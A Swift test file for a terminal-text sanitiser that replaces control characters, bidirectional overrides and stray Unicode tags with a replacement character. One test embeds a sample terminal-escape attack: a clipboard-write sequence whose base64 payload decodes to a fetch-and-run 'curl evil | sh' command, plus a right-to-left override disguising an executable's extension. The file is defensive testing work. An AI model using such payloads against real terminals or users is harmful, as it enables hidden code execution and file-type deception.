import Intents
import Testing

struct TerminalTextTests {
    @Test(arguments: [
        "\u{0}", "\u{7}", "\u{8}", "\n", "\r", "\u{B}", "\u{C}", "\u{1B}", "\u{7F}", "\u{80}", "\u{85}", "\u{9B}",
        "\u{9F}", "\u{202A}", "\u{202B}", "\u{202C}", "\u{202D}", "\u{202E}", "\u{2066}", "\u{2067}", "\u{2068}",
        "\u{2069}",
    ])
    func refusesControlsAndDirectionOverrides(character: String) {
        #expect(TerminalText.containsForbidden("before" + character + "after"))
        #expect(TerminalText.neutralised("a" + character + "b") == "a\u{FFFD}b")
    }

    /// Characters that hide text or break lines for the programs that read it: line and paragraph separators, the
    /// byte order mark, and tag characters outside an emoji flag.
    @Test(arguments: ["\u{2028}", "\u{2029}", "\u{FEFF}", "\u{E0001}", "\u{E0020}", "\u{E0041}", "\u{E007E}", "\u{E007F}"])
    func refusesSeparatorsTheByteOrderMarkAndStrayTags(character: String) {
        let text = "before" + character + "after"
        #expect(TerminalText.firstForbidden(in: text) == character.unicodeScalars.first)
        #expect(TerminalText.neutralised("a" + character + "b") == "a\u{FFFD}b")
    }

    @Test(arguments: [
        "plain words", "tab\tseparated", "Zürich", "naïve café", "東京", "🙂✨", "e\u{301}", "\u{A0}no-break",
        "\u{200F}mark", "\u{200E}mark", "\u{61C}mark", "– — “ ” …", "\u{2065}", "\u{206A}", "zero\u{200B}width",
        "word\u{2060}joiner", "soft\u{AD}hyphen", "👩\u{200D}💻", "می\u{200C}خواهم", "❤\u{FE0F}", "ｆｕｌｌ ｗｉｄｔｈ",
        "🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}",
    ])
    func keepsOrdinaryText(text: String) {
        #expect(!TerminalText.containsForbidden(text))
        #expect(TerminalText.neutralised(text) == text)
    }

    /// A tag counts only inside a whole flag sequence: U+1F3F4, one or more tags, then the cancel tag.
    @Test(arguments: [
        ("🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}", "🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}"),
        ("🏴\u{E0067}\u{E0062}", "🏴\u{FFFD}\u{FFFD}"),
        ("🏴\u{E007F}", "🏴\u{FFFD}"),
        ("🏴\u{E0067}\u{E007F}\u{E0041}", "🏴\u{E0067}\u{E007F}\u{FFFD}"),
        ("hi\u{E0068}\u{E0069}\u{E007F}", "hi\u{FFFD}\u{FFFD}\u{FFFD}"),
        ("🙂\u{E0067}\u{E007F}", "🙂\u{FFFD}\u{FFFD}"),
        ("\u{E0067}\u{E007F}🏴", "\u{FFFD}\u{FFFD}🏴"),
    ])
    func keepsTagsOnlyInAFlag(text: String, shown: String) {
        #expect(TerminalText.neutralised(text) == shown)
        #expect(TerminalText.containsForbidden(text) == (text != shown))
    }

    @Test func neutralisesEverySequenceInARealAttack() {
        let attack = "hi \u{1B}[2J\u{1B}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\u{9B}31m\u{202E}gnp.exe"
        let shown = TerminalText.neutralised(attack)
        #expect(!shown.unicodeScalars.contains { $0.value < 0x20 || (0x7F...0x9F).contains($0.value) })
        #expect(!shown.unicodeScalars.contains { $0.value == 0x202E })
        #expect(shown.hasPrefix("hi \u{FFFD}[2J\u{FFFD}]52;c;"))
    }
}
